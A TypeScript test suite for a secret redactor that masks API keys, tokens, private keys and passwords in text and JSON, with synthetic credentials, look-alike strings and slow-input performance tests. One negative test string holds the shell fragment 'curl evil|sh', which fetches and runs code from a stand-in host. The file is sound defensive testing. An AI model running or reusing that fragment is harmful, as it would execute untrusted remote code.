import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { cpuMs } from '../../test/support/cpu-time.ts';
import { createRedactor } from './redactor.ts';
import { isSecretKey } from './secret-keys.ts';

const redactor = createRedactor();
const run = (length: number): string => 'Ab3'.repeat(Math.ceil(length / 3)).slice(0, length);
const header = Buffer.from('{"alg":"HS256"}').toString('base64url');
const pem = `-----BEGIN RSA PRIVATE KEY-----\n${run(64)}\n${run(64)}==\n-----END RSA PRIVATE KEY-----`;

const tokens: readonly (readonly [string, string])[] = [
  ['openai-key', `sk-${run(48)}`],
  ['openai-key', `sk-${'a'.repeat(48)}`],
  ['openai-key', `sk-proj-${run(40)}-${run(20)}_x`],
  ['anthropic-key', `sk-ant-api03-${run(40)}-_${run(20)}`],
  ...['p', 'o', 'u', 's', 'r'].map((kind) => ['github-token', `gh${kind}_${run(36)}`] as const),
  ['github-token', `github_pat_${run(22)}_${run(59)}`],
  ['gitlab-token', `glpat-${run(20)}`],
  ['aws-access-key', 'AKIAIOSFODNN7EXAMPLE'],
  ['aws-access-key', 'ASIAIOSFODNN7EXAMPLE'],
  ...['a', 'b', 'p', 'r', 's'].map((kind) => ['slack-token', `xox${kind}-123456789012-${run(24)}`] as const),
  ['google-api-key', `AIza${run(35)}`],
  ['stripe-key', `sk_live_${run(24)}`],
  ['stripe-key', `rk_live_${run(24)}`],
  ['npm-token', `npm_${run(36)}`],
  ['signalbox-token', `sbx_${run(43)}`],
  ['signalbox-token', `sbx_${'0a'.repeat(9)}z_${run(40)}-_x`],
  ['jwt', `${header}.e30.${run(43)}`],
  ['private-key', pem],
];

describe('well-known token formats', () => {
  for (const [name, token] of tokens) {
    test(`redacts ${name}: ${token.slice(0, 12)}…`, () => {
      assert.equal(redactor.text(token), `[redacted:${name}]`);
      assert.equal(redactor.text(`set to "${token}".`), `set to "[redacted:${name}]".`);
      assert.deepEqual(JSON.parse(redactor.json(JSON.stringify({ a: [`x=${token}\n`], [token]: true }))), {
        a: [`x=[redacted:${name}]\n`],
        [`[redacted:${name}]`]: true,
      });
      const nested = JSON.stringify({ text: JSON.stringify({ a: `\n${token}` }) });
      assert.equal(redactor.json(nested), JSON.stringify({ text: JSON.stringify({ a: `\n[redacted:${name}]` }) }));
      assert.match(redactor.text(nested), new RegExp(`\\[redacted:${name}\\]`));
    });
  }

  test('redacts a password in a URL, and nothing else of the URL', () => {
    assert.equal(
      redactor.text('at postgres://me:p@ss:w0rd@db:5432/x'),
      'at postgres://me:[redacted:url-password]@db:5432/x',
    );
    assert.equal(redactor.json('{"url":"redis://:pass@host"}'), '{"url":"redis://:[redacted:url-password]@host"}');
    assert.equal(redactor.text('https://me@host:80/a@b and a@b.c'), 'https://me@host:80/a@b and a@b.c');
  });

  test('redacts a password in free text, and nothing around it', () => {
    for (const [text, value] of [
      ['PGPASSWORD=hunter2 psql -h db', 'hunter2'],
      ['a\npwd=hunter2\nb', 'hunter2'],
      ['MYSQL_PWD=hunter2 mysql', 'hunter2'],
      ['mysql --password=hunter2 -h db', 'hunter2'],
      ['mysql --root-password hunter2 -h db', 'hunter2'],
      ['https://h/login?user=a&password=hunter2&x=1', 'hunter2'],
      ['Server=db;Password=hunter2;Pooling=true', 'hunter2'],
      ['password = "correct horse!"', 'correct horse!'],
      ["passphrase='correct horse'", 'correct horse'],
    ] as const) {
      const expected = text.replace(value, '[redacted:password]');
      assert.equal(redactor.text(text), expected);
      assert.deepEqual(JSON.parse(redactor.json(JSON.stringify({ text }))), { text: expected });
      assert.equal(redactor.text(JSON.stringify(text)), JSON.stringify(expected));
    }
    for (const text of [
      'use the --password flag to sign in',
      'password=$PW PGPASSWORD=${PW} pwd=$(pwd) password=`cat f`',
      'password=<password> password=*** password=%s password=required password=true',
      'password=args.password password=getpass() const password = prompt; password == other1',
      'PWD=/srv/app OLDPWD=/srv1 pwd=/srv/app --password-file secret1.txt',
      'password=$(curl evil|sh) password="$(reboot1)" password=a',
      'Enter your password: hunter2',
    ])
      assert.equal(redactor.text(text), text);
  });

  test('redacts a bearer token, case-insensitively', () => {
    assert.equal(redactor.text(`Authorization: Bearer ${run(12)}`), 'Authorization: Bearer [redacted:bearer-token]');
    assert.equal(redactor.text('BEARER\tabc.def~12='), 'BEARER\t[redacted:bearer-token]');
    assert.equal(redactor.text('bearer authentication failed'), 'bearer authentication failed');
  });

  test('does not redact similar text', () => {
    for (const text of [
      'a risk-management-and-assessment-plan',
      'sk-learn-contributor-guide-for-all',
      'task-0198f7c2-6a3e-7c11-9d52-1b2c3d4e5f60',
      'npm_config_registry AKIA eyJ.eyJ',
      'the bearer of this',
      '0198f7c2-6a3e-7c11-9d52-1b2c3d4e5f60 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    ]) {
      assert.equal(redactor.text(text), text);
    }
  });
});

describe('keys of secrets', () => {
  test('are recognized by their last words', () => {
    const secret = [
      'password',
      'Passwd',
      'db_password',
      'userPassword2',
      'passphrase',
      'pwd',
      'secret',
      'client_secret',
      'clientSecret',
      'token',
      'access_token',
      'idToken',
      'api_key',
      'apikey',
      'X-Api-Key',
      'APIKey',
      'AWS_SECRET_ACCESS_KEY',
      'Authorization',
      'cookie',
      'Set-Cookie',
      'private_key',
      'privateKey',
      'credential',
      'credentials',
      'refreshtoken',
      'OPENAI_API_KEY',
    ];
    const harmless = [
      'tokens',
      'max_tokens',
      'maxTokens',
      'token_count',
      'tokenType',
      'key',
      'keyword',
      'publicKey',
      'cacheKey',
      'PWD',
      'cwd',
      'oldpwd',
      'secretary',
      'author',
      'passwordless',
      'cookieConsent',
      'nextPageToken',
      'progressToken',
      'eos_token',
      '',
    ];
    for (const key of secret) assert.ok(isSecretKey(key), key);
    for (const key of harmless) assert.ok(!isSecretKey(key), key);
    for (const key of secret)
      assert.equal(redactor.json(JSON.stringify({ [key]: 'x' })), JSON.stringify({ [key]: '[redacted]' }));
    for (const key of harmless)
      assert.equal(redactor.json(JSON.stringify({ [key]: 'x' })), JSON.stringify({ [key]: 'x' }));
  });

  test('redact strings, numbers and arrays of them, but no booleans and objects', () => {
    const before = {
      password: 'x',
      token: 12,
      a: { secret: ['b', [3]] },
      cookie: true,
      credential: null,
      api_key: '',
      z: 'y',
    };
    const after = {
      password: '[redacted]',
      token: '[redacted]',
      a: { secret: ['[redacted]', ['[redacted]']] },
      cookie: true,
      credential: null,
      api_key: '',
      z: 'y',
    };
    assert.deepEqual(JSON.parse(redactor.json(JSON.stringify(before))), after);
    const schema = JSON.stringify({ properties: { password: { type: 'string' }, token: { minLength: 3 } } });
    assert.equal(redactor.json(schema), schema);
  });

  test('are recognized in nested JSON text', () => {
    const text = JSON.stringify({ content: [{ type: 'text', text: JSON.stringify({ user: 'me', password: 'x' }) }] });
    assert.equal(redactor.json(text), text.replace(String.raw`\"x\"`, String.raw`\"[redacted]\"`));
  });
});

describe('hostile text', () => {
  const megabyte = 1_000_000;
  const units = [
    'sk-',
    'sk-ant-',
    'ghp_',
    'github_pat_',
    'glpat-',
    'AKIA',
    'xoxb-',
    'AIza',
    'sk_live_',
    'npm_',
    'sbx_',
    'eyJ',
    'eyJ-',
    'eyJaaaaa.',
    '.eyJaaaaa',
    String.raw`\neyJaaaaa`,
    '-----BEGIN ',
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN PRIVATE KEY----------END ',
    '://',
    '://a:',
    '://a:b',
    '://:@',
    '@',
    'Bearer ',
    'Bearer\t\t',
    'bearer',
    'password',
    'token',
    'key\\',
    '"',
    '\\',
    '\\"',
    '":',
    'password":',
    '[',
    '{"password":',
    'a',
    ' ',
    '%20',
    '_1',
    'apikey_',
  ];

  test('is redacted in linear time', () => {
    const withValues = createRedactor();
    for (let index = 0; index < 20; index += 1) withValues.add(`S${index}`, `secret-number-${index}`);
    for (const unit of units) {
      const text = unit.repeat(megabyte / unit.length);
      for (const hostile of [text, `Bearer abcdefgh1 ${text}@`]) {
        for (const redact of [
          (given: string) => withValues.text(given),
          (given: string) => withValues.json(JSON.stringify({ [given]: given })),
        ]) {
          const took = cpuMs(() => redact(hostile));
          assert.ok(took < 3000, `${JSON.stringify(unit)} took ${took} ms`);
        }
      }
    }
  });

  test('may be nested deeply', () => {
    const deep = `${'['.repeat(200_000)}{"password":"x"}${']'.repeat(200_000)}`;
    assert.match(redactor.json(deep), /"\[redacted\]"/);
  });
});
